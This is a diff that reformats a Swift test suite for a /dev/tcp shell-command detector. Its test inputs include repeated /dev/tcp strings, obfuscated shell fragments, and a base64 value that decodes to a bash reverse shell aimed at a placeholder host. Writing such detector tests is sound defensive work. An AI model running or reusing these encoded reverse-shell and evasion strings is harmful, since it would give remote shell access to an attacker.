@@ -27,7 +27,9 @@ import Testing
   }
 
   @Test func devicesOfOneCommandAskItOnce() {
-    for (text, commands) in [(String(repeating: "/dev/tcp/a/1 ", count: 200), 1), (String(repeating: "/dev/tcp/a/1;", count: 200), 200)] {
+    for (text, commands) in [
+      (String(repeating: "/dev/tcp/a/1 ", count: 200), 1), (String(repeating: "/dev/tcp/a/1;", count: 200), 200),
+    ] {
       text.withView { view in
         let facts = DevTCPMatcher.Facts(ShellText(view))
         #expect(DevTCPMatcher.matches(facts).isEmpty)
@@ -37,7 +39,8 @@ import Testing
   }
 
   @Test(arguments: [
-    "%2fdev%2f''\\44;", "b\\ash\\44L2Rldi90Y3AvYS8xIAo=", "{echo,a} ${IFS}\\u0041 ?a=b%41+", "YmFzaCAtaSA+JiAvZGV2L3RjcC9hLzEK ",
+    "%2fdev%2f''\\44;", "b\\ash\\44L2Rldi90Y3AvYS8xIAo=", "{echo,a} ${IFS}\\u0041 ?a=b%41+",
+    "YmFzaCAtaSA+JiAvZGV2L3RjcC9hLzEK ",
   ])
   func layersGrowNoFurtherThanSomeTimesTheText(unit: String) {
     let text = String(repeating: unit, count: 10_000 / unit.utf8.count)
